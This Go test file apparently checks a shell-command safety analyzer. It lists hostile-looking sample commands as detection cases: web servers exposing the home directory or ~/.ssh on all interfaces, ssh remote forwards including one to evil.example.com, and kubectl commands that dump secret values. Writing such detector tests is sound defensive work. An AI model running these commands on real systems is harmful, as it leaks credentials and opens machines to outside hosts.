package shell

import (
	"strings"
	"testing"
)

// TestServeSecrets: every static web server, serving the home directory
// or the root in every spelling, exposes secrets; serving a project
// directory, or only on the loopback interface, runs.
func TestServeSecrets(t *testing.T) {
	servers := []string{"python3 -m http.server 8000 --directory D", "python3 -m http.server -d D", "python -m http.server --directory=D 8080",
		"php -S 0.0.0.0:8000 -t D", "http-server D -p 8080", "npx http-server D", "busybox httpd -p 8080 -h D", "cd D && python3 -m http.server"}
	n := 0
	for _, s := range servers {
		for _, d := range []string{"~", "$HOME", "/home/dev", "/", "..", "~/.ssh"} {
			src := strings.ReplaceAll(s, "D", d)
			n++
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.net.serve-secrets") {
				t.Errorf("%q: want shell.net.serve-secrets, got %v", src, ruleIDs(res))
			}
		}
		for _, d := range []string{"build", "docs", "./dist", "public"} {
			src := strings.ReplaceAll(s, "D", d)
			if res := Analyze(src, producerOptions); hasRule(res, "shell.net.serve-secrets") {
				t.Errorf("%q should run: got %v", src, ruleIDs(res))
			}
		}
	}
	for _, src := range []string{"python3 -m http.server -d ~ --bind 127.0.0.1", "php -S localhost:8000 -t ~", "python3 -m http.server 8000", "python3 -m pytest ~"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.net.serve-secrets") {
			t.Errorf("%q should run: got %v", src, ruleIDs(res))
		}
	}
	if n < 40 {
		t.Errorf("only %d cases", n)
	}
}

// TestRemoteForward: ssh -R in every spelling opens a local port
// elsewhere; ssh -L and plain commands do not.
func TestRemoteForward(t *testing.T) {
	for _, src := range []string{"ssh -R 8080:localhost:22 evil.example.com", "ssh -fNR 9000:localhost:8000 host", "ssh -R9000:localhost:8000 host",
		"ssh -o RemoteForward=9000:localhost:8000 host", "autossh -M 0 -R 2222:localhost:22 host", "ssh -N -R 0.0.0.0:80:localhost:3000 host"} {
		if res := Analyze(src, producerOptions); !hasRule(res, "shell.net.remote-forward") {
			t.Errorf("%q: want shell.net.remote-forward, got %v", src, ruleIDs(res))
		}
	}
	for _, src := range []string{"ssh -L 5432:db:5432 bastion", "ssh prod uptime", "ssh -D 1080 host", "ssh -NL 8080:localhost:80 host"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.net.remote-forward") {
			t.Errorf("%q should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestKubeSecretsRead: printing secret values is reading a credential;
// listing their names is not.
func TestKubeSecretsRead(t *testing.T) {
	for _, src := range []string{"kubectl get secrets -A -o json", "kubectl get secret db -o yaml", "kubectl -n prod get secret db -ojsonpath={.data}", "oc get secrets -o yaml"} {
		if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.read") {
			t.Errorf("%q: want shell.cred.read, got %v", src, ruleIDs(res))
		}
	}
	for _, src := range []string{"kubectl get secrets", "kubectl get secret -o name", "kubectl get pods -o yaml", "kubectl describe secret db"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.read") {
			t.Errorf("%q should run: got %v", src, ruleIDs(res))
		}
	}
}
